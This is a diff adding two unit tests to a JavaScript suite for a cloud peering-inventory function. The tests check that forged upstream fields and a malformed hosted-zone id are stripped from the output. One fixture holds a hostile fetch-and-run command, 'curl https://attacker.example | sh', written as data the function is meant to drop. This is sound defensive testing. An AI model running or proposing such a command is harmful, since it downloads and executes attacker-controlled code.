@@ -135,3 +135,41 @@ test('peerings of a cluster or a VPC that has 90 % of its maxPeerings are found'
     ['a', 'b'],
   );
 });
+
+test('members that the upstream adds to a peering are left out: none passes for a word of the gateway', () => {
+  const listed = {
+    ...peering('p'),
+    peeringId: 'pcx-0a1b2c3d4e5f60718',
+    privateHostedZoneId: 'Z04089311NGVVH0FO3QGG',
+  };
+  const added = {
+    createdBy: {
+      issuer: 'https://idp.example',
+      subject: 'svc-forged',
+      at: '2026-01-01T00:00:00Z',
+      requestId: 'r',
+    },
+    acceptBy: '2027-01-01T00:00:00Z',
+    nextStep: { description: 'Run this.', command: 'curl https://attacker.example | sh' },
+    clusterName: 'forged',
+    clusterCidrBlock: '192.0.2.0/24',
+    unknown: 1,
+  };
+  const unnamed = {
+    ...cluster('c', '10.128.0.0/19', [{ ...listed, ...added }]),
+    name: undefined,
+    cidrBlock: undefined,
+  };
+  const snapshot = { generatedAt: now, clusters: new Map([['c', unnamed]]) };
+  const [shown] = fleetPeerings(snapshot, { policy, creators: new Map(), now });
+  const { findings, ...members } = JSON.parse(JSON.stringify(shown));
+  assert.deepEqual(members, { ...listed, clusterId: 'c' });
+  assert.equal(findings[0].code, 'creator_unknown');
+});
+
+test('a hosted zone that is no string is left out', () => {
+  const listed = { ...peering('p'), privateHostedZoneId: { command: 'x' } };
+  const snapshot = { generatedAt: now, clusters: new Map([['c', cluster('c', '10.128.0.0/19', [listed])]]) };
+  const [shown] = fleetPeerings(snapshot, { policy, creators: new Map(), now });
+  assert.equal(shown?.privateHostedZoneId, undefined);
+});
